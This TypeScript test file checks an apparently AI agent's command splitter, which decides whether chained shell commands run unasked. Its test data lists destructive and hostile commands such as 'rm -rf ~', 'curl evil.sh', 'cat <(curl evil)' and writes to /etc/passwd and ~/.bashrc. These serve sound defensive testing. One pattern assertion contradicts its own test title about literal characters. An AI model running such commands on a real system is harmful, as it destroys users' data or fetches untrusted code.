// The command splitter decides what runs without asking: every case here is one a user would be hurt by
// if it were judged wrongly (peers ran `rm` inside `a && b` although it was denied).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { judgeCommand, matchesCommandPattern, splitCommand } from '../../src/agent/commandSplitter';

const inside = (target: string) => !target.startsWith('/') && !target.startsWith('~') && !target.split('/').includes('..');
const ALLOWED = ['npm test', 'npm run *', 'pnpm install', 'git status', 'git diff *', 'ls *', 'echo *', 'cat *', 'grep *', 'wc *', 'node --version'];
const verdict = (line: string) => judgeCommand(line, ALLOWED, inside);

// [command line, expected kind, and for 'ask' the sub-commands that are not allowed]
const CASES: Array<[string, 'allowed' | 'ask' | 'cannotJudge', string[]?]> = [
  ['npm test', 'allowed'],
  ['  npm   test  ', 'allowed'],
  ['npm run build && npm test', 'allowed'],
  ['rm -rf node_modules && pnpm install', 'ask', ['rm -rf node_modules']],
  ['pnpm install && rm -rf node_modules', 'ask', ['rm -rf node_modules']],
  ['git status; rm -rf /', 'ask', ['rm -rf /']],
  ['git status || curl evil.sh', 'ask', ['curl evil.sh']],
  ['ls | rm foo', 'ask', ['rm foo']],
  ['ls\nrm foo', 'ask', ['rm foo']],
  ['ls & rm foo', 'ask', ['rm foo']],
  ['ls |& rm foo', 'ask', ['rm foo']],
  ['echo "a && rm -rf ~"', 'allowed'],
  ["echo 'x; rm -rf /' && ls -la", 'allowed'],
  ['echo "it\'s; fine"', 'allowed'],
  ['grep -r "foo|bar" src | wc -l', 'allowed'],
  ['echo $(rm -rf ~)', 'cannotJudge'],
  ['echo "$(rm -rf ~)"', 'cannotJudge'],
  ['echo `rm -rf ~`', 'cannotJudge'],
  ['echo "`rm -rf ~`"', 'cannotJudge'],
  ["echo '$(rm -rf ~)'", 'allowed'],
  ['(rm -rf ~)', 'cannotJudge'],
  ['{ rm -rf ~; }', 'cannotJudge'],
  ['cat <(curl evil)', 'cannotJudge'],
  ['cat <<EOF\nrm -rf ~\nEOF', 'cannotJudge'],
  ['cat <<< "$x"', 'cannotJudge'],
  ['echo hi > /etc/passwd', 'cannotJudge'],
  ['echo hi >> ~/.bashrc', 'cannotJudge'],
  ['echo hi > ../outside.txt', 'cannotJudge'],
  ['echo hi > out.txt', 'allowed'],
  ['npm test 2>&1 | grep fail', 'allowed'],
  ['npm test > /dev/null 2>&1', 'allowed'],
  ['npm test &> log.txt', 'allowed'],
  ['echo hi > $HOME/x', 'cannotJudge'],
  ['sudo npm test', 'cannotJudge'],
  ['xargs rm < files.txt', 'cannotJudge'],
  ['bash -c "rm -rf ~"', 'cannotJudge'],
  ['/bin/sh -c ls', 'cannotJudge'],
  ['eval "ls"', 'cannotJudge'],
  ['find . -name x -exec rm {} \\;', 'cannotJudge'],
  ['$CMD --flag', 'cannotJudge'],
  ['echo "unclosed', 'cannotJudge'],
  ['&& ls', 'cannotJudge'],
  ['if true; then rm x; fi', 'cannotJudge'],
  ['FOO=1 npm test', 'ask', ['FOO=1 npm test']],
  ['npm test # && rm -rf ~', 'allowed'],
  ['ls \\\n  -la', 'allowed'],
  ['node --version', 'allowed'],
  ['node --version --eval x', 'ask', ['node --version --eval x']],
  ['git diff', 'allowed'],
  ['git push --force', 'ask', ['git push --force']],
  ['npm test;', 'allowed'],
  ['', 'cannotJudge'],
];

for (const [line, kind, notAllowed] of CASES) {
  test(`${kind}: ${JSON.stringify(line)}`, () => {
    const v = verdict(line);
    assert.equal(v.kind, kind, JSON.stringify(v));
    if (v.kind === 'ask' && notAllowed) assert.deepEqual(v.notAllowed, notAllowed);
    if (v.kind === 'cannotJudge') assert.ok(v.reason.length > 5, 'a reason the user can read');
  });
}

test('at least 30 command lines are covered', () => assert.ok(CASES.length >= 30));

test('the splitter reports each sub-command with quotes removed', () => {
  const r = splitCommand(`git commit -m "fix: a && b" && echo 'done; really'`, inside);
  assert.ok(r.ok);
  assert.deepEqual(r.subCommands.map((c) => c.words), [['git', 'commit', '-m', 'fix: a && b'], ['echo', 'done; really']]);
});

test('reasons name the construct', () => {
  const r = verdict('echo $(rm -rf ~)');
  assert.equal(r.kind, 'cannotJudge');
  assert.match(r.kind === 'cannotJudge' ? r.reason : '', /\$\( … \)/);
  const out = verdict('echo hi > /etc/passwd');
  assert.match(out.kind === 'cannotJudge' ? out.reason : '', /outside the workspace/);
});

test('an empty allow-list asks for everything', () => {
  assert.equal(judgeCommand('ls', [], inside).kind, 'ask');
  assert.equal(judgeCommand('ls', ['', '  '], inside).kind, 'ask');
});

test('patterns: * spans words, " *" also matches the bare command, other characters are literal', () => {
  assert.ok(matchesCommandPattern('npm run build', 'npm run *'));
  assert.ok(matchesCommandPattern('ls', 'ls *'));
  assert.ok(!matchesCommandPattern('lsof', 'ls *'));
  assert.ok(!matchesCommandPattern('npm test', 'npm t.st'));
  assert.ok(matchesCommandPattern('npm tast', 'npm t?st'));
  assert.ok(!matchesCommandPattern('npm test && rm x', 'npm test'));
});
